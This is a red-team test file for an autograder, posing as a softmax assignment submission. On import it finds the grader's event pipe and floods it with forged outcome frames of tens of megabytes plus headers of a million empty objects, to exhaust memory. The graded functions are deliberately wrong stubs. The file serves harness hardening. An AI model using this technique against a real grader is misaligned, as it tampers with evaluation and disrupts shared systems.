"""REDTEAM frame_huge_outcomes: make the grader hold gigabytes until the submission is judged.

Attack: forge one valid 48 MiB outcome frame (under the frame cap) for every call of the
rubric (a bytes blob no outcome ever carries, or dozens of arrays each within the call's
element cap), and outcome headers of nearly 4 MiB made of a million empty objects; the
grader used to keep every decoded frame until the report was built (2.2 GiB for one
submission, 1.6 GiB for the headers).
Bound: the baseline; an outcome carrying more bytes than its call may return is refused,
and only the fields of an outcome the report reads are kept.
"""
import json
import os
import stat
import struct

import numpy as np

IDS = ["softmax:" + c for c in ("vector", "matrix", "one-row", "shifted", "large-positive", "large-negative",
                                "large-vector", "mixed-offsets", "wide", "hidden-matrix", "hidden-mixed")] + \
      ["cost_and_grad:" + c for c in ("small", "typical", "large-vocab", "extreme", "hidden-typical")] + \
      ["numgrad:cost_and_grad:small", "numgrad:cost_and_grad:typical"]
BLOB = b"\0" * (48 << 20)


def _event_fd():
    out = os.fstat(1).st_ino
    for fd in range(3, 256):
        try:
            st = os.fstat(fd)
        except OSError:
            continue
        if stat.S_ISFIFO(st.st_mode) and st.st_ino != out:
            return fd


def _send(obj, blob=b"", nblobs=1):
    fd = _event_fd()
    if fd is None:
        return
    lens = [len(blob) // nblobs] * nblobs if blob else []
    obj = dict(obj, **{"$blobs": lens})
    head = json.dumps(obj, separators=(",", ":")).encode()
    os.write(fd, struct.pack(">IQ", len(head), sum(lens)) + head)
    view = memoryview(blob)[: sum(lens)]
    while view:
        view = view[os.write(fd, view):]


def _attack():
    for k, cid in enumerate(IDS):
        base = {"ev": "outcome", "call": cid, "status": "raised", "error": {"type": "X", "message": "x"}}
        if k % 3 == 0:
            _send(dict(base, pad={"$b": 0}), BLOB)
        elif k % 3 == 1:
            n = 48  # arrays of 1 MiB each: within a large call's element cap
            _send(dict(base, pad=[{"$a": i, "dtype": "<f8", "shape": [1 << 17]} for i in range(n)]), BLOB, n)
        else:
            _send(dict(base, notes=[{}] * 1300000))


_attack()


def softmax(x):
    x = np.asarray(x, dtype=float)
    return np.ones_like(x) / x.shape[-1]


def softmaxCostAndGradient(predicted, target, outputVectors, dataset):
    return 0.0, np.zeros_like(predicted), np.zeros_like(outputVectors)
